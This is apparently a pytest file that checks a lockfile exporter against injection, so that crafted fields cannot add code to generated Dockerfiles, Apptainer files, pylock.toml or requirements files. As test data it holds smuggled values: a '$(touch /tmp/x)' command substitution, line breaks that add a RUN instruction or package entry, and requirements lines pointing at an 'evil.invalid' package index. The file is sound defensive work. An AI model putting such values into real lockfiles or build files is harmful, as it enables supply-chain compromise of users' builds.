"""A crafted lockfile writes no code into an export: refused when it is read, quoted when written.

Each crafted lockfile below was shown to add code to an export: a CUDA variant holding `$(...)`
inside a Dockerfile RUN, a torch version whose quote and line break add a Dockerfile instruction
(and an Apptainer %post section), a verl repo whose line break adds `[[packages]]` to pylock.toml,
a stage's env or options whose line break becomes a live requirements line. The first wall: each
field has a shape, checked when the file is read (exit 2 naming the file and the field). The
second: the generators quote what they embed, or refuse a value that no quoting holds.
"""

from __future__ import annotations

import json
import re
import shlex
from pathlib import Path
from typing import Any

import pytest
import yaml

from verl_bootstrap import cli
from verl_bootstrap.errors import InputError
from verl_bootstrap.lock.export.container import ContainerSource
from verl_bootstrap.lock.export.containerfmt import render_apptainer, render_dockerfile
from verl_bootstrap.lock.export.pylock import render_pylock
from verl_bootstrap.lock.export.requirements import write_requirements
from verl_bootstrap.lock.format import Lockfile
from verl_bootstrap.lock.io import read_lockfile
from verl_bootstrap.machine.host.indexes import IndexSettings

REPO = Path(__file__).resolve().parents[1]
GOOD = REPO / "lockfiles" / "cpu" / "cpu-linux-64.lock.yaml"
LOCK = read_lockfile(GOOD)
SOURCE = ContainerSource(wheel="verl_bootstrap-0.1.0-py3-none-any.whl")

VARIANT = "cpu $(touch /tmp/x)"
TORCH = '2.13.0"\nRUN touch /tmp/x'
REPO_URL = 'https://example.invalid/verl.git"\n[[packages]]\nname = "evil'
ENV_VALUE = "4\n--extra-index-url http://evil.invalid/simple"
OPTION = "--no-deps\n--trusted-host evil.invalid"


def _crafted(edit: Any) -> dict[str, Any]:
    data = yaml.safe_load(GOOD.read_text())
    edit(data)
    return data


def _stage(data: dict[str, Any]) -> dict[str, Any]:
    return next(s for s in data["stages"] if s["kind"] != "install-verl")


# the field the error must name (a regular expression), and how the lockfile is crafted
CASES = {
    r"cuda\.variant": lambda d: d["cuda"].update(variant=VARIANT),
    r"cuda\.torch": lambda d: d["cuda"].update(torch=TORCH),
    r"verl\.repo": lambda d: d["verl"].update(repo=REPO_URL),
    r"stages\.\d+\.env": lambda d: _stage(d).setdefault("env", {}).update(MAX_JOBS=ENV_VALUE),
    r"stages\.\d+\.options\.0": lambda d: _stage(d).update(options=[OPTION]),
    r"cuda\.virtual_packages": lambda d: d["cuda"]["virtual_packages"].update(__glibc="2.28\nx"),
    r"stages\.\d+\.distributions\.0\.version": (
        lambda d: _stage(d)["distributions"][0].update(version="1.0\nevil==6")
    ),
}


@pytest.mark.parametrize("field", sorted(CASES))
def test_a_crafted_field_is_refused_when_the_lockfile_is_read(field: str, tmp_path: Path) -> None:
    path = tmp_path / "crafted.lock.yaml"
    path.write_text(yaml.safe_dump(_crafted(CASES[field])))
    with pytest.raises(InputError) as refused:
        read_lockfile(path)
    assert re.match(f"{re.escape(str(path))}: invalid lockfile: {field}: ", refused.value.message)
    assert "\n" not in refused.value.message and "\x1b" not in refused.value.message


def test_export_of_a_crafted_lockfile_exits_2_and_writes_nothing(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "crafted.lock.yaml"
    path.write_text(yaml.safe_dump(_crafted(CASES[r"cuda\.torch"])))
    output = tmp_path / "out" / "Dockerfile"
    argv = ["export", "--format", "dockerfile", "--lockfile", str(path), "--output", str(output)]
    code = cli.main([*argv, "--json"])
    error = json.loads(capsys.readouterr().out)["error"]
    assert code == 2 and error["data"]["file"] == str(path)
    assert [f["field"] for f in error["data"]["fields"]] == ["cuda.torch"]
    assert not output.parent.exists()


# --- the second wall: values that got past the schema are quoted or refused --------------------


def _unchecked(**cuda: str) -> Lockfile:
    """The good lock with crafted values put in without validation (as a bug might)."""
    return LOCK.model_copy(update={"cuda": LOCK.cuda.model_copy(update=cuda)})


def test_a_dockerfile_holds_a_crafted_variant_as_one_quoted_word() -> None:
    text = render_dockerfile(_unchecked(variant=VARIANT), SOURCE, "python:3.12-bookworm")
    assert f"--cuda {shlex.quote(VARIANT)} " in text
    run = text.split("RUN set -eu;", 1)[1].split("\nENV ", 1)[0]
    assert "$(touch" not in run.replace(shlex.quote(VARIANT), "")
    assert f'org.verl-bootstrap.variant="{VARIANT}"' in text


@pytest.mark.parametrize("render", [render_dockerfile, render_apptainer])
def test_a_container_definition_refuses_a_value_with_a_line_break(render: Any) -> None:
    with pytest.raises(InputError, match="line break"):
        render(_unchecked(torch=TORCH), SOURCE, "python:3.12-bookworm")


def test_pylock_refuses_a_repo_with_a_line_break() -> None:
    verl = LOCK.verl.model_copy(update={"repo": REPO_URL, "kind": "git", "commit": "a" * 40})
    lock = LOCK.model_copy(update={"verl": verl})
    with pytest.raises(InputError, match="line break"):
        render_pylock(lock, [])


@pytest.mark.parametrize("update", [{"env": {"MAX_JOBS": ENV_VALUE}}, {"options": (OPTION,)}])
def test_a_requirements_export_refuses_a_stage_value_with_a_line_break(
    update: dict[str, Any], tmp_path: Path
) -> None:
    stages = tuple(
        s.model_copy(update=update) if s.kind != "install-verl" else s for s in LOCK.stages
    )
    lock = LOCK.model_copy(update={"stages": stages})
    with pytest.raises(InputError, match="line break"):
        write_requirements(lock, [], IndexSettings(), tmp_path)
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("render", [render_dockerfile, render_apptainer])
def test_a_bundle_name_with_a_line_break_adds_no_instruction(render: Any) -> None:
    source = ContainerSource(bundle="verl.tar\nRUN touch /tmp/x")
    with pytest.raises(InputError, match="line break"):
        render(LOCK, source, "python:3.12-bookworm")
